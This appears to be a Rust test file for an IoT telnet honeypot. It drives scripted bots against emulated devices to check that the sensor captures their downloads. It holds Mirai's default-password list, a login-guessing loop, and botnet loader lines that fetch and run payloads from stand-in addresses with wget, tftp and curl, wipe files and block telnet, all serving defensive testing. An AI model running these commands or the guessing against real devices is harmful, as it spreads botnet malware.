//! Bots with a plan, over real connections: each goes on only while what it sees is what it waits for, and what counts is
//! how many leave behind what they came to place.
//!
//! The plans follow published descriptions: the login list and the loader of Mirai (source of 2016; Antonakakis and others
//! 2017), the folders and the echo loader of Hajime (Edwards and Profetis 2016), the orders of loaders seen by IoTPOT (Pa
//! and others 2016), the downloaders of Gafgyt, Mozi and Torii. Names and addresses are made up.

use noroshi_model::lure::Lure;
use noroshi_sensor::iot::{self, Device, Finished};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

/// Nothing here takes this long unless it hangs.
const PATIENCE: Duration = Duration::from_secs(60);
/// Sensors of each persona.
const SEEDS: u64 = 8;
/// Connections for which a bot guesses before it gives a device up.
const CONNECTIONS: usize = 12;
/// The share of plans that must end with a place or a file.
const GOAL: f64 = 0.95;

/// Pairs that bots try first, in the order of one that made them known; a device's own stand somewhere or not at all.
const LOGINS: [(&str, &str); 24] = [
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("root", ""),
    ("admin", "password"),
    ("root", "root"),
    ("root", "12345"),
    ("user", "user"),
    ("admin", ""),
    ("root", "pass"),
    ("admin", "admin1234"),
    ("root", "1111"),
    ("admin", "smcadmin"),
    ("admin", "1111"),
    ("root", "666666"),
    ("root", "password"),
];

/// A step of a plan.
enum Step {
    /// Types a line; `{arch}` is what was read of the device's programs, `{dir}` the folder that can be written.
    Say(&'static str),
    /// Leaves unless this came back.
    Need(&'static str),
    /// Leaves unless a program's head came back; keeps its architecture.
    Arch,
    /// Keeps the first folder of a kind that can be written, as listed; leaves when there is none.
    Folder,
}
use Step::{Arch, Folder, Need, Say};

/// The plans.
fn plans() -> Vec<(&'static str, Vec<Step>)> {
    let menu = || {
        vec![
            Say("enable"),
            Say("system"),
            Say("shell"),
            Say("sh"),
            Say("/bin/busybox ECCHI"),
            Need("ECCHI: applet not found"),
        ]
    };
    let with = |more: Vec<Step>| menu().into_iter().chain(more).collect::<Vec<_>>();
    vec![
        (
            "loader, wget",
            with(vec![
                Say("/bin/busybox ps; /bin/busybox ECCHI"),
                Need("init"),
                Need("applet not found"),
                Say("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"),
                Need("rw"),
                Folder,
                Say(
                    "cd {dir}; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
                ),
                Need("applet not found"),
                Say("/bin/busybox cat /bin/echo; /bin/busybox ECCHI"),
                Arch,
                Say("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI"),
                Need("applet not found"),
                Say(
                    "/bin/busybox wget http://192.0.2.80:80/bins/mirai.{arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
                ),
                Need("applet not found"),
            ]),
        ),
        (
            "loader, echo",
            with(vec![
                Say("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"),
                Folder,
                Say(
                    "cd {dir}; /bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox ECCHI",
                ),
                Arch,
                Say("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > upnp; /bin/busybox ECCHI"),
                Need("applet not found"),
                Say("echo -ne '\\x00\\x02\\x00\\x28' >> upnp; /bin/busybox ECCHI"),
                Need("applet not found"),
                Say("/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper selfrep.echo; /bin/busybox ECCHI"),
            ]),
        ),
        (
            "writable by trial",
            vec![
                Say("cat /proc/mounts; (/bin/busybox XQZTR || :)"),
                Need("XQZTR: applet not found"),
                Folder,
                Say("cd {dir}; (cat .s || cp /bin/echo .s); /bin/busybox XQZTR"),
                Need("applet not found"),
                Say("nc; wget; /bin/busybox XQZTR"),
                Need("applet not found"),
                Say("(dd bs=52 count=1 if=.s || cat .s)"),
                Arch,
                Say("rm .s; >.d && chmod 777 .d; echo -ne \"\\x7f\\x45\\x4c\\x46\\x02\" >> .d; /bin/busybox XQZTR"),
                Need("applet not found"),
                Say("./.d>.i; chmod 777 .i; ./.i; rm .d; /bin/busybox XQZTR"),
            ],
        ),
        (
            "one line, four ways",
            vec![Say(
                "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.81/b.sh; chmod 777 b.sh; sh b.sh; tftp 192.0.2.81 -c get t1.sh; chmod 777 t1.sh; sh t1.sh; tftp -r t2.sh -g 192.0.2.81; chmod 777 t2.sh; sh t2.sh; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.81 f1.sh f1.sh; sh f1.sh; rm -rf b.sh t1.sh t2.sh f1.sh; rm -rf *",
            )],
        ),
        (
            "checks echo, then wget",
            vec![
                Say("echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'"),
                Need("gayfgt"),
                Say("sh"),
                Say("/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'"),
                Need("BusyBox v"),
                Need("gayfgt"),
                Say("cd /tmp; busybox wget http://192.0.2.82/bot.sh || wget http://192.0.2.82/bot.sh; sh bot.sh &"),
            ],
        ),
        (
            "architecture by uname",
            vec![
                Say("uname -a"),
                Need("Linux"),
                Say("cat /proc/cpuinfo"),
                Need(":"),
                Say(
                    "cd /tmp; for a in mips mipsel arm arm5 arm7 x86; do wget http://192.0.2.83/b.$a -O .b; chmod +x .b; ./.b; done",
                ),
            ],
        ),
        (
            "tftp only",
            with(vec![
                Say("cd /tmp; /bin/busybox tftp -g -l .z -r z.arm 192.0.2.84; /bin/busybox ECCHI"),
                Need("applet not found"),
            ]),
        ),
        (
            "asks who is here first",
            vec![
                Say("id; whoami; echo $USER $HOME"),
                Need("uid=0"),
                Say("ls -la /; df; free"),
                Need("tmp"),
                Say("cat /etc/passwd"),
                Need("root:"),
                Say("ps | grep -v grep | grep init"),
                Need("init"),
                Say("wget -q http://192.0.2.85/x -O /tmp/x && chmod 755 /tmp/x && /tmp/x"),
            ],
        ),
        (
            "blocks the door behind it",
            with(vec![
                Say(
                    "cd /tmp; /bin/busybox wget http://192.0.2.86:8080/Mozi.m; chmod 777 Mozi.m; ./Mozi.m; iptables -I INPUT -p tcp --dport 23 -j DROP; /bin/busybox ECCHI",
                ),
                Need("applet not found"),
            ]),
        ),
        (
            "script from a here document",
            vec![
                Say("cat > /tmp/r.sh <<EOF"),
                Say("#!/bin/sh"),
                Say("wget http://192.0.2.87/k -O /tmp/k"),
                Say("sh /tmp/k"),
                Say("EOF"),
                Say("chmod +x /tmp/r.sh; /tmp/r.sh"),
            ],
        ),
        ("curl into a shell", vec![Say("(wget -O - http://192.0.2.88/i.sh || curl http://192.0.2.88/i.sh) | sh")]),
        (
            "folders by trial, printf",
            vec![
                Say("for d in /dev/shm /var/tmp /tmp /mnt; do >$d/.w && cd $d && echo found-$d; done"),
                Need("found-"),
                Say("printf '\\177\\105\\114\\106\\001' > .p; printf '\\002\\050' >> .p; chmod 700 .p; ./.p"),
            ],
        ),
    ]
}

struct Visit {
    stream: TcpStream,
}

impl Visit {
    /// Reads until one of these came; what came, or none at the end.
    fn until(&mut self, marks: &[&str]) -> Option<String> {
        let (mut seen, mut buffer) = (Vec::new(), [0; 8_192]);
        loop {
            match self.stream.read(&mut buffer) {
                Ok(length @ 1..) => seen.extend_from_slice(&buffer[..length]),
                _ => return None,
            }
            // Bytes one to one: programs come as they are.
            let text: String = seen.iter().map(|byte| char::from(*byte)).collect();
            if marks.iter().any(|mark| text.trim_end().ends_with(mark)) {
                return Some(text);
            }
        }
    }

    fn say(&mut self, line: &str) {
        drop(self.stream.write_all(format!("{line}\r\n").as_bytes()));
    }
}

/// Guesses until a shell stands open, over as many connections as it takes.
fn log_in(to: SocketAddr, first: usize) -> Option<Visit> {
    let mut guesses = LOGINS.iter().cycle().skip(first);
    for _ in 0..CONNECTIONS {
        let stream = TcpStream::connect(to).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        let mut visit = Visit { stream };
        let mut seen = visit.until(&["ogin:"]);
        while seen.is_some() {
            let (user, password) = guesses.next()?;
            visit.say(user);
            if visit.until(&["assword:"]).is_none() {
                break;
            }
            visit.say(password);
            seen = visit.until(&["ogin:", "#", "$", ">"]);
            if seen.as_ref().is_some_and(|text| !text.trim_end().ends_with("ogin:")) {
                return Some(visit);
            }
        }
    }
    None
}

/// The architecture in the head of a program (ELF header: class, order, machine).
fn architecture(text: &str) -> Option<&'static str> {
    let bytes: Vec<u8> = text.chars().map(|c| c as u32 as u8).collect();
    let at = bytes.windows(4).position(|part| part == b"\x7fELF")?;
    let head = bytes.get(at..at + 20)?;
    match (head[5], head[18], head[19]) {
        (1, 8, 0) => Some("mpsl"),
        (2, 0, 8) => Some("mips"),
        (1, 40, 0) => Some("arm"),
        (1, 3, 0) | (1, 62, 0) => Some("x86"),
        _ => None,
    }
}

/// Goes through a plan; where it ended, when not at its end.
fn follow(visit: &mut Visit, plan: &[Step]) -> Result<(), String> {
    let (mut seen, mut arch, mut folder) = (String::new(), "", String::from("/tmp"));
    for step in plan {
        match step {
            Say(line) => {
                visit.say(&line.replace("{arch}", arch).replace("{dir}", &folder));
                seen = visit.until(&["#", "$", ">"]).ok_or_else(|| format!("the device hung up after {line}"))?;
            }
            Need(text) if seen.contains(text) => {}
            Need(text) => return Err(format!("no {text:?} in {seen:?}")),
            Arch => arch = architecture(&seen).ok_or_else(|| format!("no program in {seen:?}"))?,
            Folder => {
                let mut listed = seen.lines().filter_map(|line| {
                    let mut words = line.split_whitespace();
                    let (kind, place, options) = (words.next()?, words.next()?, words.nth(1)?);
                    (["tmpfs", "ramfs"].contains(&kind) && options.starts_with("rw")).then(|| place.to_owned())
                });
                folder = listed.next().ok_or_else(|| format!("no folder in {seen:?}"))?;
            }
        }
    }
    Ok(())
}

fn device(persona: &str, seed: u64) -> (SocketAddr, mpsc::Receiver<Finished>, tokio_util::sync::DropGuard) {
    let listen = vec![(Lure::Telnet, "127.0.0.1:0".parse().unwrap())];
    let config =
        iot::Config { sensor: "s".into(), seed, persona: persona.into(), listen, hasty: true, ..Default::default() };
    let bound = iot::bind(config).unwrap();
    let address = bound.addresses()[0].1;
    let (sender, finished) = mpsc::channel(64);
    let stop = CancellationToken::new();
    tokio::spawn(bound.run(sender, stop.clone()));
    (address, finished, stop.drop_guard())
}

#[tokio::test(flavor = "multi_thread")]
async fn bots_leave_behind_what_they_came_to_place() {
    let (mut all, mut caught, mut lost) = (0, 0, Vec::new());
    for persona in Device::names() {
        for seed in 1..=SEEDS {
            let (to, mut finished, _stop) = device(persona, seed);
            for (at, (name, plan)) in plans().into_iter().enumerate() {
                let ended = tokio::task::spawn_blocking(move || {
                    let mut visit = log_in(to, at * 5 + seed as usize).ok_or("nobody opened")?;
                    follow(&mut visit, &plan)
                });
                let ended = ended.await.unwrap();
                let last = loop {
                    let row = finished.recv().await.unwrap();
                    // Guesses on earlier connections are rows of their own.
                    if row.session.logins_accepted > 0 || ended.is_err() && finished.is_empty() {
                        break row;
                    }
                };
                all += 1;
                let left =
                    !last.session.urls.is_empty() || last.samples.iter().any(|sample| !sample.content.is_empty());
                if left && ended.is_ok() {
                    caught += 1
                } else {
                    lost.push(format!("{persona} {seed} {name}: {ended:?}"))
                }
            }
        }
    }
    println!("{caught} of {all} scripted bots left a place or a file");
    assert!(f64::from(caught) >= GOAL * f64::from(all), "{caught} of {all}\n{}", lost.join("\n"));
}
